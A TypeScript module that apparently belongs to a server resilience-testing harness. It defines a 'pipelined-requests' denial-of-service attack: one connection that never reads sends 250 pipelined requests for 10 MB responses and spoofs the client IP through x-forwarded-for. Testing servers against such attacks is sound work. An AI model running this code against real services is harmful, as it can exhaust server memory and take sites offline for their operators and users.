import { setTimeout as wait } from "node:timers/promises";
import { type Attack, attackerAddress, scaled } from "./attack.ts";
import { countAndClose, openAll, requestHead } from "./raw-connection.ts";
import { plantLargePicture } from "./unread-responses.ts";

/** Sends 250 requests for 10 MB each in one packet of 37 KB, and never reads from the connection. */
export const pipelinedRequests: Attack = {
  name: "pipelined-requests",
  async prepare(order) {
    const link = await plantLargePicture(order);
    return async () => {
      const until = performance.now() + order.seconds * 1000;
      const connections = await openAll(order.url, 1, () => ({ reads: false }));
      const request = requestHead("GET", link, { "x-forwarded-for": attackerAddress(order, 0) });
      await connections[0]?.send(request.repeat(scaled(order, 250)), until);
      await wait(Math.max(0, until - performance.now()));
      return countAndClose(connections);
    };
  },
};
